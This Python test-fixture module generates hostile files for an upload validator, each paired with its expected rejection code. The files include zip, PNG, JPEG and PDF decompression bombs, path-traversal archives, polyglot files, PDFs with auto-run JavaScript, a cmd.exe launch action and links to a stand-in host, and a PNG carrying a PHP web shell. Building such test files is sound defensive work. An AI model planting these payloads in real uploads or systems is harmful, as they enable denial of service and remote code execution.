"""Files made to hurt: small on the wire, large or endless when unpacked, or something else than they say.

Made anew for every run; nothing of this lies on a disk.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Any

from PIL import Image
from pillow_heif import register_heif_opener

register_heif_opener()

MEGABYTE = 1024 * 1024


@cache
def zeros(megabytes: int) -> bytes:
    """So many megabytes of zeros, deflated."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(megabytes)) + packer.flush()


# archives ---------------------------------------------------------------------------------------------------


@cache
def zip_bomb(member: str = "isi.bin", megabytes: int = 16) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(member, "w") as file:
        for _ in range(megabytes):
            file.write(bytes(MEGABYTE))
    return out.getvalue()


def zip_in_zip(depth: int = 5) -> bytes:
    data = zip_bomb(megabytes=1)
    for _ in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{number}.zip", data)
        data = out.getvalue()
    return data


def with_archive(data: bytes) -> bytes:
    """The file, and an archive behind it that any unpacker opens."""
    out = io.BytesIO(data)
    out.seek(0, io.SEEK_END)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("../../jahat.class", "x")
    return out.getvalue()


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"))
    return out.getvalue()


# pictures ---------------------------------------------------------------------------------------------------


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **more: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "olive").save(out, form, **more)
    return out.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, rows: int, depth: int = 1, colour: int = 0, extra: bytes = b"") -> bytes:
    """A PNG that says it is so large and holds so many black rows."""
    samples = {0: 1, 2: 3, 6: 4}[colour]
    row = bytes(1 + (width * samples * depth + 7) // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"".join(
        (b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", head), extra, chunk(b"IDAT", body), chunk(b"IEND", b""))
    )


def jpeg_saying(width: int, height: int) -> bytes:
    """A small JPEG whose head names another size."""
    data = bytearray(picture())
    place = data.index(b"\xff\xc0") + 5
    data[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_of_scans(scans: int, side: int = 2000) -> bytes:
    """A progressive JPEG with its last pass repeated: every pass costs as much as the whole picture."""
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True, quality=50)
    data = out.getvalue()
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * scans + b"\xff\xd9"


def heic_saying(width: int, height: int) -> bytes:
    data = picture("HEIF", (64, 64))
    return data.replace(struct.pack(">II", 64, 64), struct.pack(">II", width, height))


def film(form: str, frames: int = 3, **more: Any) -> bytes:
    rest = [Image.new("RGB", (64, 48), (number % 256, 0, 0)) for number in range(frames - 1)]
    return picture(form, save_all=True, append_images=rest, **more)


# documents --------------------------------------------------------------------------------------------------


def pdf(
    objects: Iterable[tuple[int, bytes]],
    *,
    hidden: Iterable[tuple[int, bytes]] = (),
    held: Mapping[int, tuple[int, int]] | None = None,
) -> bytes:
    """A PDF of these objects, object 1 being its root; those `hidden` are compressed into one stream.

    `held`: objects that lie in a stream of `objects`, with their place in it.
    """
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    places = {name: (2, *where) for name, where in (held or {}).items()}
    packed = list(hidden)
    listed = list(objects)
    if packed:
        heads, bodies = b"", b""
        for number, (name, body) in enumerate(packed):
            heads += b"%d %d " % (name, len(bodies))
            bodies += body + b" "
            places[name] = (2, 900, number)
        content = zlib.compress(heads + bodies)
        head = b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>" % (
            len(packed),
            len(heads),
            len(content),
        )
        listed.append((900, head + b"stream\n" + content + b"\nendstream"))
    for name, body in listed:
        places[name] = (1, out.tell(), 0)
        out.write(b"%d 0 obj\n%s\nendobj\n" % (name, body))
    start = out.tell()
    places[901] = (1, start, 0)
    table = b"".join(struct.pack(">BIH", *places.get(name, (0, 0, 0))) for name in range(max(places) + 1))
    out.write(xref(start, zlib.compress(table), size=max(places) + 1))
    return out.getvalue()


def xref(start: int, table: bytes, *, size: int) -> bytes:
    head = b"<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (
        size,
        len(table),
    )
    body = b"901 0 obj\n" + head + b"stream\n" + table + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % start


ROOT = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"


def pdf_with(root: bytes = b"", page: bytes = b"", *, hidden: Iterable[tuple[int, bytes]] = ()) -> bytes:
    """One page, with more in the root's and the page's dictionaries."""
    return pdf(
        [(1, ROOT[:-2] + root + b">>"), (2, PAGES), (3, PAGE[:-2] + page + b">>")],
        hidden=hidden,
    )


def pdf_pages(count: int) -> bytes:
    """So many pages, of which the document says that they are one."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    pages = [(number + 3, b"<</Type/Page>>") for number in range(count)]
    return pdf([(1, ROOT), (2, b"<</Type/Pages/Count 1/Kids[%s]>>" % kids), *pages])


def pdf_tree(depth: int, width: int) -> bytes:
    """A tree of pages in which every branch is the same: `width` to the power of `depth` pages."""
    levels = [
        (2 + level, b"<</Type/Pages/Count 1/Kids[%s]>>" % (b"%d 0 R " % (3 + level) * width))
        for level in range(depth)
    ]
    return pdf([(1, ROOT), *levels, (2 + depth, b"<</Type/Page>>")])


def pdf_packed(megabytes: int) -> bytes:
    """Its root lies in a stream that is deflated twice and becomes so many megabytes of blanks."""
    content = zlib.compress(b"1 0 " + b" " * (megabytes * MEGABYTE) + ROOT, 9)
    twice = zlib.compress(content, 9)
    head = b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>" % len(twice)
    return pdf([(5, head + b"stream\n" + twice + b"\nendstream"), (2, PAGES), (3, PAGE)], held={1: (5, 0)})


def pdf_of_entries(megabytes: int) -> bytes:
    """A table of contents that unpacks to so many megabytes."""
    out = b"%PDF-1.5\n1 0 obj\n" + ROOT + b"\nendobj\n"
    return out + xref(len(out), zeros(megabytes), size=megabytes * MEGABYTE // 7)


def pdf_going_round() -> bytes:
    """A table of contents that continues in itself."""
    out = b"%PDF-1.4\n1 0 obj\n" + ROOT + b"\nendobj\n"
    place = len(out)
    end = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return out + end % (place, place)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
CODED_SCRIPT = b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"
LAUNCH = b"<</S/L#61unch/F(cmd.exe)>>"


@dataclass(frozen=True)
class Bomb:
    """`code`: how it is refused. `slow`: its refusal takes seconds of the processor."""

    name: str
    make: Callable[[], bytes]
    code: str
    slow: bool = False


BOMBS = {
    "a zip bomb": Bomb("isi.zip", zip_bomb, "file_name"),
    "a zip bomb as a photo": Bomb("isi.jpg", zip_bomb, "file_type"),
    "zips in zips": Bomb("isi.png", zip_in_zip, "file_type"),
    "a text document that is a zip bomb": Bomb(
        "surat.docx", lambda: zip_bomb("word/document.xml"), "file_name"
    ),
    "a table that is a zip bomb": Bomb("tabel.ods", lambda: zip_bomb("content.xml"), "file_name"),
    "a text document as a pdf": Bomb("surat.pdf", lambda: zip_bomb("word/document.xml"), "file_type"),
    "gzip": Bomb("foto.jpg", lambda: gzip.compress(bytes(MEGABYTE)), "file_type"),
    "tar": Bomb("foto.png", tar, "file_type"),
    "a picture of 2.5 thousand million points": Bomb(
        "foto.png", lambda: png(50_000, 50_000, rows=100), "file_too_big"
    ),
    "a picture one point high": Bomb("foto.png", lambda: png(2**31 - 1, 1, rows=0), "file_too_big"),
    "a jpeg that says it is huge": Bomb("foto.jpg", lambda: jpeg_saying(65_500, 65_500), "file_too_big"),
    "a jpeg of a thousand passes": Bomb("foto.jpg", lambda: jpeg_of_scans(1000), "file_too_complex"),
    "a webp that takes a gigabyte": Bomb(
        "foto.webp", lambda: picture("WEBP", (5000, 5000), lossless=True, quality=0, method=0), "file_too_big"
    ),
    "a heic that says it is huge": Bomb("foto.heic", lambda: heic_saying(40_000, 40_000), "file_too_big"),
    "text that unpacks to 32 MB": Bomb(
        "foto.png",
        lambda: png(8, 8, rows=8, extra=chunk(b"zTXt", b"a\0\0" + zeros(32))),
        "file_broken",
    ),
    "a colour profile that unpacks to 32 MB": Bomb(
        "foto.png",
        lambda: png(8, 8, rows=8, extra=chunk(b"iCCP", b"a\0\0" + zeros(32))),
        "file_broken",
    ),
    "a film as webp": Bomb("foto.webp", lambda: film("WEBP"), "file_unsafe"),
    "a film as png": Bomb("foto.png", lambda: film("PNG"), "file_unsafe"),
    "a gif of 100 pictures": Bomb("foto.gif", lambda: film("GIF", 100), "file_name"),
    "a gif as a photo": Bomb("foto.png", lambda: film("GIF", 20), "file_type"),
    "a tiff": Bomb("pindai.tif", lambda: picture("TIFF"), "file_name"),
    "a tiff as a photo": Bomb("pindai.jpg", lambda: picture("TIFF"), "file_type"),
    "a bitmap as a photo": Bomb("foto.jpg", lambda: picture("BMP"), "file_type"),
    "a cut jpeg": Bomb("foto.jpg", lambda: picture(size=(900, 900))[:900], "file_broken"),
    "a cut webp": Bomb("foto.webp", lambda: picture("WEBP", (900, 900))[:200], "file_broken"),
    "a cut heic": Bomb("foto.heic", lambda: picture("HEIF", (900, 900))[:700], "file_broken"),
    "noise behind a jpeg's first bytes": Bomb(
        "foto.jpg", lambda: b"\xff\xd8\xff" + bytes(5000), "file_broken"
    ),
    "a picture drawn by a script": Bomb(
        "gambar.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "file_name"
    ),
    "a script's drawing as a photo": Bomb("gambar.png", lambda: b"<svg onload='alert(1)'/>", "file_type"),
    "a gif that is a script": Bomb("foto.jpg", lambda: b"GIF89a=1;alert(1)//" + bytes(20), "file_type"),
    "a jpeg that is a page": Bomb(
        "foto.jpg",
        lambda: b"\xff\xd8\xff\xfe\x00\x30<html><body onload=alert(1)>" + picture()[2:],
        "file_unsafe",
    ),
    "a jpeg that is a pdf": Bomb(
        "foto.jpg", lambda: b"\xff\xd8\xff\xfe\x00\x09%PDF-1.7" + picture()[2:], "file_unsafe"
    ),
    "a jpeg that is an archive": Bomb("foto.jpg", lambda: with_archive(picture()), "file_unsafe"),
    "a png that is a program": Bomb(
        "foto.png", lambda: picture("PNG") + b"<?php system($_GET['c']); ?>", "file_unsafe"
    ),
    "a page": Bomb("halaman.html", lambda: b"<script>alert(1)</script>", "file_name"),
    "a page as a photo": Bomb("foto.jpg", lambda: b"<!doctype html><script>alert(1)</script>", "file_type"),
    "a program": Bomb("tagihan.pdf.exe", lambda: b"MZ" + bytes(200), "file_name"),
    "a program behind a word that is written backwards": Bomb(
        "foto\u202egpj.exe", lambda: b"MZ" + bytes(200), "file_name"
    ),
    "a pdf that is an archive": Bomb("surat.pdf", lambda: with_archive(pdf_with()), "file_unsafe"),
    "a pdf named as a photo": Bomb("surat.jpg", pdf_with, "file_mismatch"),
    "a pdf of 880 pages that says it has one": Bomb("surat.pdf", lambda: pdf_pages(880), "file_too_big"),
    "a pdf of endless pages": Bomb("surat.pdf", lambda: pdf_tree(30, 10), "file_too_big"),
    "a pdf's page repeated": Bomb("surat.pdf", lambda: pdf_tree(1, 50_000), "file_too_big"),
    "a pdf packed twice": Bomb("surat.pdf", lambda: pdf_packed(32), "file_too_complex"),
    "a pdf with a million entries": Bomb("surat.pdf", lambda: pdf_of_entries(7), "file_broken", slow=True),
    "a pdf that goes round": Bomb("surat.pdf", pdf_going_round, "file_broken"),
    "a pdf of brackets": Bomb(
        "surat.pdf", lambda: pdf_with(b"/X " + b"[" * 100_000 + b"]" * 100_000), "file_broken"
    ),
    "a pdf without a table": Bomb(
        "surat.pdf", lambda: b"%PDF-1.4\n" + b"<<" * 500_000 + b"\nstartxref\n9\n%%EOF\n", "file_broken"
    ),
    "a pdf of a million beginnings": Bomb(
        "surat.pdf",
        lambda: b"%PDF-1.4\n" + b"1 0 obj\n" * 900_000 + b"startxref\n9\n%%EOF\n",
        "file_broken",
        slow=True,
    ),
    "a pdf that starts a script": Bomb("surat.pdf", lambda: pdf_with(b"/OpenAction" + SCRIPT), "file_unsafe"),
    "a pdf whose script is spelt otherwise": Bomb(
        "surat.pdf", lambda: pdf_with(b"/OpenAction" + CODED_SCRIPT), "file_unsafe"
    ),
    "a pdf whose script is compressed": Bomb(
        "surat.pdf", lambda: pdf_with(b"/OpenAction 8 0 R", hidden=[(8, SCRIPT)]), "file_unsafe"
    ),
    "a pdf with a compressed list of scripts": Bomb(
        "surat.pdf",
        lambda: pdf_with(b"/Names 8 0 R", hidden=[(8, b"<</JavaScript<</Names[(a)9 0 R]>>>>"), (9, SCRIPT)]),
        "file_unsafe",
    ),
    "a pdf whose page starts a script": Bomb(
        "surat.pdf", lambda: pdf_with(page=b"/AA<</O 8 0 R>>", hidden=[(8, SCRIPT)]), "file_unsafe"
    ),
    "a pdf whose link starts a program": Bomb(
        "surat.pdf",
        lambda: pdf_with(
            page=b"/Annots[8 0 R]", hidden=[(8, b"<</Type/Annot/Subtype/Link/A 9 0 R>>"), (9, LAUNCH)]
        ),
        "file_unsafe",
    ),
    "a pdf with a file pinned to its page": Bomb(
        "surat.pdf",
        lambda: pdf_with(
            page=b"/Annots[8 0 R]",
            hidden=[(8, b"<</Subtype/FileAttachment/FS<</F(a.exe)/E#46<</F 9 0 R>>>>>>")],
        ),
        "file_unsafe",
    ),
    "a pdf with a compressed file": Bomb(
        "surat.pdf",
        lambda: pdf_with(b"/Names 8 0 R", hidden=[(8, b"<</EmbeddedFiles<</Names[]>>>>")]),
        "file_unsafe",
    ),
    "a pdf with a form that sends": Bomb(
        "surat.pdf",
        lambda: pdf_with(
            page=b"/Annots[8 0 R]",
            hidden=[(8, b"<</Subtype/Widget/A<</S/SubmitForm/F(http://x.example)>>>>")],
        ),
        "file_unsafe",
    ),
    "a pdf with a form of another kind": Bomb(
        "surat.pdf", lambda: pdf_with(b"/AcroForm 8 0 R", hidden=[(8, b"<</XFA[]>>")]), "file_unsafe"
    ),
    "a pdf that opens another": Bomb(
        "surat.pdf",
        lambda: pdf_with(b"/OpenAction 8 0 R", hidden=[(8, b"<</S/GoToR/F(\\\\\\\\x.example\\\\a.pdf)>>")]),
        "file_unsafe",
    ),
    "a pdf that opens an address": Bomb(
        "surat.pdf", lambda: pdf_with(b"/OpenAction<</S/URI/URI(http://x.example)>>"), "file_unsafe"
    ),
}
